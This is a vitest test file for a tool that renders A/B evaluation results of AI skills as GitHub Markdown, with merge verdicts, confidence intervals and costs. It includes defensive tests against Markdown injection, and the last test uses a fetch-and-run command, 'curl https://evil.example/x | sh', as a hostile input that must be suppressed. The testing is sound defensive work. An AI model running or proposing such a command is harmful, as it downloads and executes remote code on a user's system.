import { micromark } from "micromark";
import { gfm, gfmHtml } from "micromark-extension-gfm";
import { expect, test } from "vitest";
import { hostileEvaluation, hostileTexts } from "../../test/hostile-evaluation.ts";
import { madePlan, madeTrials, trialsFrom } from "../../test/made-evaluation.ts";
import { evaluationFigures } from "../evaluate/figures.ts";
import { abTable, maxTableLength } from "./ab-table.ts";

const rendered = (markdown: string): string =>
  micromark(markdown, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] });

test("the first line says whether it may merge, and why", () => {
  const plan = madePlan({ cases: 10, repeats: 2 });
  const line = (head: string, base: string): string =>
    abTable(evaluationFigures(plan, trialsFrom(plan, { none: "00", base, head }))).split("\n")[0] ?? "";
  expect(line("11", "00")).toBe(
    "**Yes, this may merge: wide-rows makes openai:small better, +100.0 points (+69.0 to +100.0); the gain is no chance (p 0.0020) and at least 5 points.**",
  );
  expect(line("00", "11")).toMatch(
    /^\*\*No, this may not merge: wide-rows makes openai:small worse, −100\.0 points/,
  );
  expect(line("10", "01")).toMatch(
    /^\*\*Yes, this may merge, but nothing is proven: nobody can tell what wide-rows/,
  );
});

test("a stricter policy refuses what is open", () => {
  const plan = madePlan({ cases: 10, repeats: 2 });
  const figures = evaluationFigures(plan, trialsFrom(plan, { none: "00", base: "01", head: "10" }));
  expect(abTable(figures, "worse")).toMatch(/^\*\*Yes/);
  expect(abTable(figures, "worse-or-undecided")).toMatch(/^\*\*No, this may not merge: nobody can tell/);
  expect(abTable(figures, "not-better")).toMatch(/^\*\*No/);
});

test("the table shows what was measured, with intervals, tokens and cost", () => {
  const plan = madePlan();
  const small = { none: "00", base: "10", head: "11" };
  const lines = abTable(evaluationFigures(plan, trialsFrom(plan, small)))
    .replaceAll("\u00a0", " ")
    .split("\n");
  expect(lines.find((line) => line.startsWith("| `wide-rows`"))).toBe(
    "| `wide-rows`<br>`openai:small`<br>4 × 2 | **cannot tell** | +50.0 points<br>(−24.4 to +100.0)<br>head − base | none 0.0 % (0.0 to 49.0)<br>base 50.0 % (15.0 to 85.0)<br>head 100.0 % (51.0 to 100.0) | 120 | &#36;0.00200 → &#36;0.00100 |",
  );
});

test("the worst comes first, and below the table stands what was run and what it took", () => {
  const plan = madePlan({ students: ["openai:large", "openai:small"], cases: 10, arms: ["base", "head"] });
  const trials = madeTrials(plan, ({ student, arm }) => ({
    outcome: (arm === "head") === (student.spec === "openai:large") ? "passed" : "failed",
  }));
  const markdown = abTable(evaluationFigures(plan, trials));
  const verdicts = [...markdown.matchAll(/<br>`(openai:\w+)`<br>10 × 2 \| \*\*(\w+)\*\*/g)];
  expect(verdicts.map(([, student, verdict]) => `${student} ${verdict}`)).toEqual([
    "openai:small worse",
    "openai:large better",
  ]);
  const [shown = ""] = markdown.split("<details>");
  expect(shown).toContain("80 trials finished, 0 excluded, 0 without a result; 80 calls");
  expect(shown).toContain("Judged at level 0.05 with a margin of 10 points.");
});

test("one other raw result makes another table, and the same results the same one", () => {
  const plan = madePlan({ cases: 10, repeats: 2 });
  const table = (changed?: string): string =>
    abTable(
      evaluationFigures(
        plan,
        madeTrials(plan, ({ arm, case: { id }, identity }) => {
          const outcome = arm === "head" || identity.repeat === 0 ? "passed" : "failed";
          return { outcome: arm === "head" && id === changed && identity.repeat === 0 ? "failed" : outcome };
        }),
      ),
    );
  expect(table()).toBe(table());
  expect(table()).toContain("100.0\u00a0%\u00a0(72.2\u00a0to\u00a0100.0)");
  expect(table("case-3")).not.toBe(table());
  expect(table("case-3")).toContain("95.0\u00a0%\u00a0(");
  expect(table("case-3")).toContain("| `case-3` | 1 of 2 | 1 of 2 | 1 of 2 | 0.0 points |");
});

test("cases with losses come first", () => {
  const plan = madePlan({ arms: ["base", "head"], cases: 3, repeats: 1 });
  const figures = evaluationFigures(
    plan,
    trialsFrom(plan, {
      base: { "case-1": "0", "case-2": "0", "case-3": "1" },
      head: { "case-1": "1", "case-2": "0", "case-3": "0" },
    }),
  );
  expect([...abTable(figures).matchAll(/^\| `(case-\d)`/gm)].map(([, id]) => id)).toEqual([
    "case-3",
    "case-2",
    "case-1",
  ]);
});

test.each(hostileTexts)("nothing from outside acts in Markdown: %j", (text) => {
  const { plan, trials } = hostileEvaluation(text);
  const html = rendered(abTable(evaluationFigures(plan, trials)));
  const tags = new Set([...html.matchAll(/<\/?([a-z][a-z0-9]*)/gi)].map(([, tag]) => tag));
  const ours = [
    "br",
    "code",
    "details",
    "em",
    "h3",
    "li",
    "p",
    "pre",
    "strong",
    "summary",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
  ];
  expect([...tags].filter((tag) => !ours.includes(tag ?? ""))).toEqual([]);
  // Every row has as many cells as its head, so that no text moved a column.
  for (const [, table = ""] of html.matchAll(/<table>([\s\S]*?)<\/table>/g)) {
    const cells = table.split("</tr>").map((row) => row.split(/<t[hd]>/).length - 1);
    expect(new Set(cells.filter((count) => count > 0)).size).toBe(1);
  }
  const prose = html.replaceAll(/<(code|pre)>[\s\S]*?<\/\1>/g, "");
  expect(prose).not.toMatch(/@octo/);
  expect(prose).not.toMatch(/#12(?!\d)/);
  expect(prose).not.toMatch(/https:\/\//);
});

test("a large evaluation stays within what GitHub takes, and its verdicts come first", () => {
  const skills = Array.from({ length: 30 }, (_, index) => `skill-${index}`);
  const plan = madePlan({
    skills,
    students: ["openai:a", "openai:b"],
    cases: 60,
    repeats: 1,
    arms: ["none", "head"],
  });
  const markdown = abTable(
    evaluationFigures(
      plan,
      madeTrials(plan, () => ({})),
    ),
  );
  expect(markdown.length).toBeLessThanOrEqual(maxTableLength);
  expect(markdown.match(/^\| `skill-\d+`<br>`openai:[ab]`<br>60 × 1/gm)).toHaveLength(60);
  expect(markdown.split("<details").length).toBe(markdown.split("</details").length);
  expect(markdown).toContain("Left out here");
});

test("a must-pass case that is lost is the reason, even where the mean rises", () => {
  const cases = [{ id: "must", mustPass: true }, { id: "b" }, { id: "c" }];
  const plan = madePlan({ arms: ["base", "head"], cases, repeats: 3 });
  const trials = trialsFrom(plan, {
    base: { must: "111", b: "000", c: "000" },
    head: { must: "000", b: "111", c: "111" },
  });
  expect(abTable(evaluationFigures(plan, trials))).toMatch(
    /^\*\*No, this may not merge: wide-rows makes openai:small worse: 1 must-pass case was lost: must; on average \+33\.3 points/,
  );
});

test("a plan's command is shown where an evaluation can have written it, and no other", () => {
  const tableWith = (reproduce: string): string =>
    abTable(evaluationFigures(madePlan({ more: { reproduce } }), new Map()));
  expect(tableWith("overproof evaluate skills/wide-rows --seed 2")).toContain("skills/wide-rows --seed 2");
  const other = tableWith("curl https://evil.example/x | sh");
  expect(other).not.toContain("evil.example");
  expect(other).toContain("The plan names a command that no evaluation writes");
});
